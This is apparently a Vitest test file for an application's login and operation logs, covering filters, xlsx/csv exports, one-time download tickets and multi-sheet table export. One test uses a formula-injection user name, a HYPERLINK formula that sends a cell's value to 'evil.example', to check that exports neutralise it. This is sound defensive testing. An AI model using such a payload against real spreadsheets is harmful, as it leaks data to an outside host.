import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DownloadTicket } from '../src-shared/api/downloads';
import { writeTableExport } from '../src-main/exports/table-export';
import { startTestEngine, tempDir, type TestEngine } from './helpers/engine';

let t: TestEngine;
let admin: string;
let auditor: string;

beforeAll(async () => {
  t = await startTestEngine();
  admin = await t.loginAs('admin');
  auditor = await t.loginAs('auditor', 'auditor1');
  // Three failed logins and a few changes to filter on.
  for (const password of ['wrong-1', 'wrong-2', 'wrong-3']) await t.login('auditor1', password).catch(() => undefined);
  await t.call('systemAccounts.create', { username: 'clerk-a', password: 'Clerk-pass-1', role: 'clerk' }, admin);
  await t.call('systemAccounts.create', { username: 'clerk-b', password: 'Clerk-pass-2', role: 'clerk' }, admin);
  await t.call('settings.update', { currency: { symbol: 'CN¥' } }, admin);
});
afterAll(() => t.dispose());

/** Fetches a ticket the way a browser does (bearer here; the UI sends its session cookie). */
async function download(ticket: DownloadTicket, token: string): Promise<Response> {
  return fetch(`${t.http!.url}/${ticket.url}`, { headers: { Authorization: `Bearer ${token}` } });
}

async function saved(ticket: DownloadTicket, token: string): Promise<string> {
  const res = await download(ticket, token);
  expect(res.status).toBe(200);
  const file = path.join(t.dataDir, ticket.fileName);
  fs.writeFileSync(file, Buffer.from(await res.arrayBuffer()));
  return file;
}

async function sheetRows(file: string): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const rows: unknown[][] = [];
  workbook.worksheets[0]!.eachRow({ includeEmpty: true }, (row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('log filters', () => {
  it('the login log filters by result, the operation log by action and target (prefixes)', async () => {
    const failed = await t.call('logs.login', { ok: false, limit: 50 }, auditor);
    expect(failed.rows.map((r) => r.reason)).toEqual(['bad_password', 'bad_password', 'bad_password']);
    const succeeded = await t.call('logs.login', { ok: true, limit: 50 }, auditor);
    expect(succeeded.rows.every((r) => r.ok)).toBe(true);

    const creates = await t.call('logs.operation', { method: 'systemAccounts.create', limit: 50 }, auditor);
    expect(creates.rows.map((r) => r.method)).toEqual(Array(creates.rows.length).fill('systemAccounts.create'));
    const byDomain = await t.call('logs.operation', { method: 'settings.', limit: 50 }, auditor);
    expect(byDomain.rows.map((r) => r.method)).toEqual(['settings.update']);
    const clerkA = creates.rows.find((r) => (r.summary as { after?: { username?: string } })?.after?.username === 'clerk-a');
    const target = clerkA?.target ?? '';
    expect(target).toMatch(/^systemAccount:\d+$/);
    const one = await t.call('logs.operation', { target, limit: 50 }, auditor);
    expect(one.rows.map((r) => r.target)).toEqual([target]);
    // A "%" or "_" in a filter is a character, not a wildcard.
    expect((await t.call('logs.operation', { method: '%', limit: 50 }, auditor)).rows).toEqual([]);
  });
});

describe('log exports', () => {
  it('exports the filtered login log to .xlsx with a header block, readable by Excel tools', async () => {
    const ticket = await t.call('logs.exportLogin', { ok: false, format: 'xlsx', timeZone: 'Asia/Shanghai' }, auditor);
    expect(ticket).toMatchObject({ rows: 3, contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' });
    expect(ticket.fileName).toMatch(/^login-log-\d{8}-\d{6}\.xlsx$/);
    const rows = await sheetRows(await saved(ticket, auditor));
    expect(rows[0]).toEqual(['Login log']);
    const block = Object.fromEntries(rows.slice(1, 6).map((r) => [r[0], r[1]]));
    expect(block).toMatchObject({ Period: 'all', 'Time zone': 'Asia/Shanghai', Filters: 'result: failed', 'Exported by': 'auditor1' });
    expect(rows[7]).toEqual(['Time', 'User', 'Result', 'Reason', 'Address', 'User agent']);
    const data = rows.slice(8);
    expect(data.length).toBe(3);
    for (const r of data) expect(r.slice(1, 4)).toEqual(['auditor1', 'failed', 'wrong password']);
    // Times are the wall clock in the chosen zone.
    const newest = (await t.call('logs.login', { ok: false, limit: 1 }, auditor)).rows[0]!;
    const shanghai = new Date(Date.parse(newest.at) + 8 * 3_600_000);
    expect((data[0]![0] as Date).toISOString().slice(0, 19)).toBe(shanghai.toISOString().slice(0, 19));
  });

  it('exports the operation log filtered by action to .csv (UTF-8 with BOM for Excel)', async () => {
    const ticket = await t.call('logs.exportOperation', { method: 'systemAccounts.', format: 'csv', timeZone: 'UTC' }, admin);
    const text = fs.readFileSync(await saved(ticket, admin), 'utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const records = parse(text.slice(1), { relax_column_count: true, skip_empty_lines: false }) as string[][];
    expect(records[0]).toEqual(['Operation log']);
    expect(records.find((r) => r[0] === 'Filters')).toEqual(['Filters', 'action starts with "systemAccounts."']);
    const headingAt = records.findIndex((r) => r[0] === 'Time');
    expect(records[headingAt]).toEqual(['Time', 'User', 'Action (method)', 'Target', 'Address', 'Details (before/after)']);
    const data = records.slice(headingAt + 1);
    const expected = (await t.call('logs.operation', { method: 'systemAccounts.', limit: 1000 }, admin)).rows;
    expect(data.length).toBe(expected.length);
    expect(data.map((r) => r[2])).toEqual(expected.map((r) => r.method));
    expect(data[0]![0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
  });

  it('writes text that looks like a formula so that spreadsheets show it as text (a user name typed at the login page)', async () => {
    const typed = '=HYPERLINK("//evil.example/"&C9,"ok")';
    await t.login(typed, 'whatever').catch(() => undefined);
    const ticket = await t.call('logs.exportLogin', { format: 'csv', timeZone: 'UTC' }, auditor);
    const text = fs.readFileSync(await saved(ticket, auditor), 'utf8');
    const records = parse(text.slice(1), { relax_column_count: true, skip_empty_lines: false }) as string[][];
    const cells = records.flat();
    expect(cells).toContain(`'${typed}`);
    expect(cells).not.toContain(typed);
    // Ordinary names are unchanged.
    expect(cells).toContain('auditor1');
  });

  it('a download works once, only for the account that asked, and only with a session', async () => {
    const ticket = await t.call('logs.exportLogin', { format: 'csv' }, auditor);
    expect((await fetch(`${t.http!.url}/${ticket.url}`)).status).toBe(401);
    expect((await download(ticket, admin)).status).toBe(404);
    const res = await download(ticket, auditor);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${ticket.fileName}"; filename*=UTF-8''${ticket.fileName}`);
    expect(Number(res.headers.get('content-length'))).toBe(ticket.sizeBytes);
    await res.arrayBuffer();
    expect((await download(ticket, auditor)).status).toBe(404);
    const cross = await fetch(`${t.http!.url}/${(await t.call('logs.exportLogin', {}, auditor)).url}`, {
      headers: { Authorization: `Bearer ${auditor}`, 'Sec-Fetch-Site': 'cross-site' },
    });
    expect(cross.status).toBe(403);
  });

  it('the desktop window reads the same file in chunks with downloads.read', async () => {
    const ticket = await t.call('logs.exportOperation', { format: 'xlsx' }, admin);
    await expect(t.call('downloads.read', { token: ticket.token }, auditor)).rejects.toMatchObject({ code: 'not_found' });
    const chunk = await t.call('downloads.read', { token: ticket.token, offset: 0 }, admin);
    expect(chunk).toMatchObject({ done: true, offset: 0, sizeBytes: ticket.sizeBytes, fileName: ticket.fileName });
    const bytes = Buffer.from(chunk.base64, 'base64');
    expect(bytes.length).toBe(ticket.sizeBytes);
    const file = path.join(t.dataDir, 'via-ipc.xlsx');
    fs.writeFileSync(file, bytes);
    expect((await sheetRows(file))[0]).toEqual(['Operation log']);
    await expect(t.call('downloads.read', { token: ticket.token, offset: 0 }, admin)).rejects.toMatchObject({ code: 'not_found' });
  });
});

describe('table export', () => {
  it('continues on further sheets when a sheet is full, each with its headings', async () => {
    const dir = tempDir();
    try {
      const file = path.join(dir, 'long.xlsx');
      const batches = [Array.from({ length: 12 }, (_, i) => ({ n: i + 1, at: Date.UTC(2026, 2, 2, 1, 0, i), amount: 1234 * (i + 1) }))];
      const result = await writeTableExport(
        {
          format: 'xlsx',
          file,
          sheetName: 'Numbers',
          title: 'Numbers',
          headerBlock: [['Period', 'March']],
          columns: [
            { header: 'N', kind: 'integer', value: (r) => r.n },
            { header: 'At', kind: 'time', value: (r) => r.at },
            { header: 'Amount', kind: 'money', value: (r) => r.amount },
          ],
          timeZone: 'Asia/Shanghai',
          maxRowsPerSheet: 8, // the first sheet has 4 heading rows, the next ones 1
        },
        batches,
      );
      expect(result).toEqual({ rows: 12, sheets: 3 });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(file);
      expect(workbook.worksheets.map((w) => w.name)).toEqual(['Numbers', 'Numbers (2)', 'Numbers (3)']);
      const values = (i: number) => {
        const out: unknown[][] = [];
        workbook.worksheets[i]!.eachRow((row) => out.push((row.values as unknown[]).slice(1)));
        return out;
      };
      expect(values(0).slice(0, 3)).toEqual([['Numbers'], ['Period', 'March'], ['N', 'At', 'Amount']]);
      expect(values(0).slice(3).map((r) => r[0])).toEqual([1, 2, 3, 4]);
      expect(values(1)[0]).toEqual(['N', 'At', 'Amount']);
      expect(values(1).slice(1).map((r) => r[0])).toEqual([5, 6, 7, 8, 9, 10, 11]);
      expect(values(2).map((r) => r[0])).toEqual(['N', 12]);
      expect((values(0)[3]![1] as Date).toISOString()).toBe('2026-03-02T09:00:00.000Z');
      expect(values(0)[3]![2]).toBe(0.1234);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
